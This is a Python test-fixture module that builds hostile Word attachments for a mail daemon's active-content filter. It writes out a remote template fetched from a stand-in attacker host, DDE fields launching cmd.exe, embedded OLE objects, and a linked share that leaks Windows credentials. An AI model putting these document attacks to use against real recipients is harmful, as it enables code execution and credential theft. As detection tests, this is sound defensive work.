"""Hostile Word attachments carrying active content that is not a macro, and one that is fine.

Documents that attack Word itself without a macro: a template attached from a web server,
DDE fields (as a field with runs, and as a simple field), OLE objects (an embedded container
part, an embedded package declared only in the markup, a linked file on a share). Each starts
from a genuine referral (`referral_docx`) and adds the parts and markup Word would write,
with `zipfile`. The last one is the control: a form with ordinary web and email links, which
`mailbot.ingest.active` must let through. `tests/hostile_corpus.CORPUS` names them with the
code the daemon must give.
"""

from __future__ import annotations

from tests.hostile_blocks import build_zip, encrypted, minimal_docx, parts_of, referral_docx

FORM_SEEDS = range(603, 611)  # the referrals inside these files (603-605 kept from before)
_DOCUMENT = "word/document.xml"
_DOCUMENT_RELS = "word/_rels/document.xml.rels"
_TYPES = "[Content_Types].xml"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(*rows: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{"".join(rows)}</Relationships>'
            ).encode()


def _with(seed: int, body: str = "", rels: str = "", types: str = "",
          extra: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A referral with `body` markup first in the document, `rels` rows added to the
    document's relationships, `types` rows to the content types, and `extra` parts."""
    changes = {_DOCUMENT: ("<w:body>", f"<w:body>{body}"),
               _DOCUMENT_RELS: ("</Relationships>", f"{rels}</Relationships>"),
               _TYPES: ("</Types>", f"{types}</Types>")}
    parts = []
    for name, data in parts_of(referral_docx(seed)):
        if name in changes:
            old, new = changes[name]
            data = data.decode().replace(old, new, 1).encode()
        parts.append((name, data))
    return build_zip([*parts, *extra])


def remote_template() -> bytes:
    """settings.xml attaching a template from a web server (Word fetches it on opening)."""
    rels = _relationships(
        f'<Relationship Id="rId1" Type="{_REL}/attachedTemplate"'
        ' Target="http://attacker.invalid/t.dotm" TargetMode="External"/>')
    return build_zip([*parts_of(referral_docx(603)), ("word/_rels/settings.xml.rels", rels)])


def dde_field() -> bytes:
    """A DDEAUTO field that would ask Word to run cmd.exe."""
    return _with(604, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                 ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText>'
                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def ole_object() -> bytes:
    """An embedded OLE object (oleObject1.bin) of the kind that carries executables."""
    return build_zip([*parts_of(referral_docx(605)),
                      ("word/embeddings/oleObject1.bin", _ole_container())])


def dde_field_simple() -> bytes:
    """A simple field (w:fldSimple) whose instruction is DDE, written in lower case."""
    return _with(606, '<w:p><w:fldSimple w:instr=" dde c:\\\\windows\\\\system32\\\\cmd.exe'
                 ' &quot;/k calc.exe&quot; "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>')


def ole_object_markup() -> bytes:
    """A Word document embedded as an object (w:object, o:OLEObject): no .bin part, no OLE
    content type, only the markup gives it away (the package could hold macros)."""
    body = ('<w:p><w:r><w:object w:dxaOrig="1500" w:dyaOrig="800"><v:shape id="_x0000_i1025"'
            ' type="#_x0000_t75" style="width:75pt;height:40pt"/><o:OLEObject Type="Embed"'
            ' ProgID="Word.Document.12" ShapeID="_x0000_i1025" DrawAspect="Icon"'
            ' ObjectID="_1700000000" r:id="rId90"/></w:object></w:r></w:p>')
    rels = (f'<Relationship Id="rId90" Type="{_REL}/package"'
            ' Target="embeddings/Microsoft_Word_Document.docx"/>')
    types = ('<Default Extension="docx" ContentType="application/vnd.openxmlformats-'
             'officedocument.wordprocessingml.document"/>')
    return _with(607, body, rels, types,
                 (("word/embeddings/Microsoft_Word_Document.docx", minimal_docx()),))


def linked_ole_object() -> bytes:
    """An OLE object linked to a workbook on a network share (Word opens the share, handing
    it the user's Windows credentials, and refreshes the link)."""
    body = ('<w:p><w:r><w:object><v:shape id="_x0000_i1026" type="#_x0000_t75"/>'
            '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1026"'
            ' DrawAspect="Content" r:id="rId91" UpdateMode="Always"><o:LinkType>EnhancedMetaFile'
            '</o:LinkType></o:OLEObject></w:object></w:r></w:p>')
    rels = (f'<Relationship Id="rId91" Type="{_REL}/oleObject"'
            ' Target="file:///\\\\attacker.invalid\\share\\risk.xlsx" TargetMode="External"/>')
    return _with(608, body, rels)


def external_hyperlinks() -> bytes:
    """The control: a referral with web and email links (external hyperlink relationships and
    a HYPERLINK field), as partners' forms have. Not active content: it is read."""
    body = ('<w:p><w:hyperlink r:id="rId92"><w:r><w:t>Guidance</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="rId93"><w:r><w:t>Email the IDVA</w:t></w:r></w:hyperlink>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            ' HYPERLINK "https://www.safelives.org.uk/" </w:instrText></w:r><w:r><w:fldChar'
            ' w:fldCharType="separate"/></w:r><w:r><w:t>SafeLives</w:t></w:r><w:r><w:fldChar'
            ' w:fldCharType="end"/></w:r></w:p>')
    rels = (f'<Relationship Id="rId92" Type="{_REL}/hyperlink"'
            ' Target="https://www.westmidlands-pcc.gov.uk/marac" TargetMode="External"/>'
            f'<Relationship Id="rId93" Type="{_REL}/hyperlink"'
            ' Target="mailto:idva@example.gov.uk" TargetMode="External"/>')
    return _with(609, body, rels)


def _ole_container() -> bytes:
    """A tiny OLE container with a stream named like an embedded executable's."""
    ole = bytearray(encrypted(spin_count=1))
    slot = ole.index("EncryptedPackage".encode("utf-16-le"))
    name = "\x01Ole10Native".encode("utf-16-le")
    ole[slot:slot + len(name)] = name
    return bytes(ole)
